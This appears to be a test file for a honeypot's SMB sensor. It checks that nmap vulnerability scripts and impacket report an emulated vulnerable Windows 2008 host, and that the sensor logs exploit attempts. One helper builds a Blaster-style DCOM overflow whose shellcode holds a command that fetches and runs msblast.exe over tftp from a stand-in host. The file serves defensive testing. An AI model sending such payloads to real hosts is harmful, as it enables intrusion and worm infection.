// Real-tool test: nmap's SMB scripts and version detection against the SMB sensor on 127.0.0.45:445.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startApiaryProcess } from '../../helpers/apiary-process.js';
import { runTool } from '../../helpers/run-tool.js';
import { connect } from 'node:net';
import { encodeBind, encodeRequest } from '../../../src/sensors/smb/codec/dcerpc.js';

/** Sends a DCOM activation request with a Blaster-style oversized stub to the endpoint mapper port. */
async function blaster(host: string): Promise<Buffer> {
  const shellcode = Buffer.concat([Buffer.alloc(32, 0x90), Buffer.from([0xe8, 0, 0, 0, 0, 0x5e]), Buffer.from('cmd /c tftp -i 203.0.113.77 GET msblast.exe & start msblast.exe\0', 'latin1')]);
  const stub = Buffer.concat([Buffer.alloc(64, 0x41), Buffer.from('\\\\', 'latin1'), Buffer.alloc(1200, 0x42), shellcode]);
  const bind = encodeBind(1, [{ abstract: { uuid: '4d9f4ab8-7d1c-11cf-861e-0020af6e7c57', version: 0, minor: 0 }, transfers: [{ uuid: '8a885d04-1ceb-11c9-9fe8-08002b104860', version: 2, minor: 0 }] }]);
  return new Promise((resolve, reject) => {
    let got = Buffer.alloc(0);
    const s = connect({ host, port: 135 }, () => s.write(bind));
    s.on('data', (d) => {
      got = Buffer.concat([got, d]);
      if (got.length >= 24 && got[2] === 12) {
        s.write(encodeRequest(2, 0, 0, stub));
        setTimeout(() => s.end(), 300);
      }
    });
    s.on('close', () => resolve(got));
    s.on('error', reject);
  });
}

const HOST = '127.0.0.45';
const PATCHED_HOST = '127.0.0.47';

/**
 * Windows builds nmap's smb-os-discovery can name here, what each was open to while unpatched, and
 * the SMB2 dialects it speaks. MS08-067 (CVE-2008-4250) hit Vista SP1 and Server 2008 as released
 * (build 6001, which calls itself Service Pack 1); SP2 and Windows 7 / 2008 R2 shipped with its fix.
 * MS17-010 (CVE-2017-0143..0148) hit all of them. SMB 2.0.2 came with Vista / 2008, 2.1 with 7 / 2008 R2.
 */
const WINDOWS_BUILDS = [
  { os: /^Windows Server \(R\) 2008 (Standard|Enterprise) 6001 Service Pack 1 \(Windows Server \(R\) 2008 \1 6\.0\)$/, ms08067: true, ms17010: true, smb2: ['202'] },
  { os: /^Windows Server \(R\) 2008 (Standard|Enterprise) 6002 Service Pack 2 \(Windows Server \(R\) 2008 \1 6\.0\)$/, ms08067: false, ms17010: true, smb2: ['202'] },
  { os: /^Windows (7 Professional|Server 2008 R2 Standard) 7601 Service Pack 1 \(Windows \1 6\.1\)$/, ms08067: false, ms17010: true, smb2: ['202', '210'] },
];

/** One script's block of nmap's host script output: its "| name:" line through the next "|_" line. */
function scriptBlock(out: string, name: string): string {
  const lines = out.split('\n');
  const start = lines.findIndex((l) => l.startsWith(`| ${name}:`) || l.startsWith(`|_${name}:`));
  assert.ok(start >= 0, `nmap printed ${name}`);
  const end = lines.findIndex((l, i) => i >= start && l.startsWith('|_'));
  return lines.slice(start, end + 1).join('\n');
}

/** The State line of a vulns-library script (a clean result shows only with vulns.showall). */
function vulnState(out: string, name: string): string | undefined {
  return /State: ([A-Z ]+)/.exec(scriptBlock(out, name))?.[1]?.trim();
}

/** Asserts that what nmap reports fits one Windows build: the OS it names, its SMB2 dialects, the holes it reports. */
function assertCoherent(out: string): (typeof WINDOWS_BUILDS)[number] {
  const os = /^\|\s+OS: (.*)$/m.exec(scriptBlock(out, 'smb-os-discovery'))?.[1] ?? '';
  const build = WINDOWS_BUILDS.find((b) => b.os.test(os));
  assert.ok(build, `smb-os-discovery names a known Windows build: "${os}"`);
  assert.equal(vulnState(out, 'smb-vuln-ms08-067'), build.ms08067 ? 'VULNERABLE' : 'NOT VULNERABLE', `MS08-067 on ${os}`);
  assert.equal(vulnState(out, 'smb-vuln-ms17-010'), build.ms17010 ? 'VULNERABLE' : 'NOT VULNERABLE', `MS17-010 on ${os}`);
  const dialects = [...scriptBlock(out, 'smb-protocols').matchAll(/^\|[_ ]\s{4}(.+?)\s*$/gm)].map((m) => m[1]);
  assert.deepEqual(dialects, ['NT LM 0.12 (SMBv1) [dangerous, but default]', ...build.smb2], `smb-protocols on ${os}`);
  // smb2-capabilities tries each dialect; smb2-security-mode shows the one a full offer settles on.
  const listed = (script: string): (string | undefined)[] => [...scriptBlock(out, script).matchAll(/^\|\s{3}(\S+):\s*$/gm)].map((m) => m[1]);
  assert.deepEqual(listed('smb2-capabilities'), build.smb2, `smb2-capabilities on ${os}`);
  assert.deepEqual(listed('smb2-security-mode'), build.smb2.slice(-1), `smb2-security-mode on ${os}`);
  return build;
}

test('nmap on the default profile: ms08-067 and ms17-010 VULNERABLE on a Windows build open to both, SMB2 dialects of that build, shares, -sV Windows', async () => {
  const apiary = await startApiaryProcess({
    sensor: 'smb-nmap',
    services: { smb: { listen: [`${HOST}:445`], netbios_listen: [`${HOST}:139`], epmap_listen: [`${HOST}:135`], netbios_name: 'FILESRV07', workgroup: 'ACCOUNTS' } },
  });
  try {
    const scripts = 'smb-double-pulsar-backdoor,smb-vuln-ms08-067,smb-vuln-ms17-010,smb-os-discovery,smb-protocols,smb2-capabilities,smb-security-mode,smb2-security-mode,smb-enum-shares';
    const r = await runTool('nmap', ['-Pn', '-n', '-p135,139,445', '-sV', '--script', scripts, '--script-args', 'unsafe=1', HOST], { timeoutMs: 120_000 });
    const out = r.stdout;
    assert.equal(r.code, 0, r.stderr);
    // The default is a build both holes hit (that nmap reports them is the point of the sensor).
    const build = assertCoherent(out);
    assert.ok(build.ms08067 && build.ms17010, 'the default profile is open to MS08-067 and MS17-010');
    assert.match(out, /NetBIOS computer name: FILESRV07/);
    assert.match(out, /Workgroup: ACCOUNTS/);
    assert.match(out, /message_signing: disabled/);
    assert.match(out, /Message signing enabled but not required/);
    for (const share of ['ADMIN$', 'C$', 'IPC$', 'Public']) assert.ok(out.includes(`\\\\${HOST}\\${share}`), `share ${share} listed`);
    // With scripts, -sV names the OS that smb-os-discovery found, as it does for a real Windows host
    // (the SMBProgNeg line a 2008 server matches reads no workgroup; smb-os-discovery shows it above).
    assert.match(out, /445\/tcp\s+open\s+microsoft-ds\s+Windows Server \(R\) 2008 (?:Standard|Enterprise) 6001 Service Pack 1 microsoft-ds\s*$/m);
    assert.doesNotMatch(out, /2008 R2/, 'no probe names a later Windows than the one presented');
    assert.match(out, /139\/tcp\s+open\s+netbios-ssn\s+Microsoft Windows netbios-ssn/);
    assert.match(out, /135\/tcp\s+open\s+msrpc\s+Microsoft Windows RPC/);
    assert.doesNotMatch(out, /dionaea|honeypot|samba/i);
    assert.doesNotMatch(out, /Double Pulsar SMB Backdoor/, 'no backdoor is claimed before anyone ran EternalBlue');
    const dump = await runTool('/usr/bin/python3', ['/usr/share/doc/python3-impacket/examples/rpcdump.py', HOST]);
    assert.match(dump.stdout, /No endpoints found/);
    const ack = await blaster(HOST);
    assert.equal(ack[2], 12, 'the activation interface binds');
    await apiary.stop();
    const events = await apiary.events();
    const names = new Set(events.filter((e) => e.type === 'exploit.attempt').map((e) => `${e.name}|${e.cve}`));
    assert.ok(names.has('MS08-067|CVE-2008-4250'), 'the nmap MS08-067 check is recorded');
    assert.ok(names.has('MS17-010|CVE-2017-0144'), 'the nmap MS17-010 check is recorded');
    const ms03 = events.find((e) => e.type === 'exploit.attempt' && e.name === 'MS03-026');
    assert.equal(ms03?.cve, 'CVE-2003-0352');
    const sc = events.find((e) => e.type === 'shellcode.detected' && e.session === ms03?.session);
    assert.deepEqual(sc?.urls, ['tftp://203.0.113.77/msblast.exe']);
    const dl = events.find((e) => e.type === 'file.download' && e.session === ms03?.session);
    assert.equal(dl?.outcome, 'disabled', 'fetching is off by default');
    const reqs = events.filter((e) => e.type === 'rpc.request');
    assert.ok(reqs.some((e) => e.interface === 'srvsvc' && e.operation === 'NetprPathCompare'));
    assert.ok(reqs.some((e) => e.interface === 'srvsvc' && e.operation === 'NetrShareEnum'));
    assert.ok(events.some((e) => e.type === 'rpc.bind' && e.interface === 'srvsvc' && e.accepted === true));
  } finally {
    await apiary.stop();
  }
});

test('nmap on a later build named in the config: ms08-067 answered as patched (NOT VULNERABLE), ms17-010 VULNERABLE, the attempt still recorded', async () => {
  const apiary = await startApiaryProcess({ sensor: 'smb-nmap-patched', services: { smb: { listen: [`${PATCHED_HOST}:445`], netbios_listen: [], os: 'windows-2008r2' } } });
  try {
    const scripts = 'smb-vuln-ms08-067,smb-vuln-ms17-010,smb-os-discovery,smb-protocols,smb2-capabilities,smb2-security-mode';
    const r = await runTool('nmap', ['-Pn', '-n', '-p445', '--script', scripts, '--script-args', 'unsafe=1,vulns.showall', PATCHED_HOST], { timeoutMs: 120_000 });
    assert.equal(r.code, 0, r.stderr);
    const build = assertCoherent(r.stdout);
    assert.deepEqual([build.ms08067, build.smb2], [false, ['202', '210']]);
    await apiary.stop();
    const events = await apiary.events();
    assert.ok(events.some((e) => e.type === 'exploit.attempt' && e.name === 'MS08-067'), 'the refused check is still recorded');
  } finally {
    await apiary.stop();
  }
});
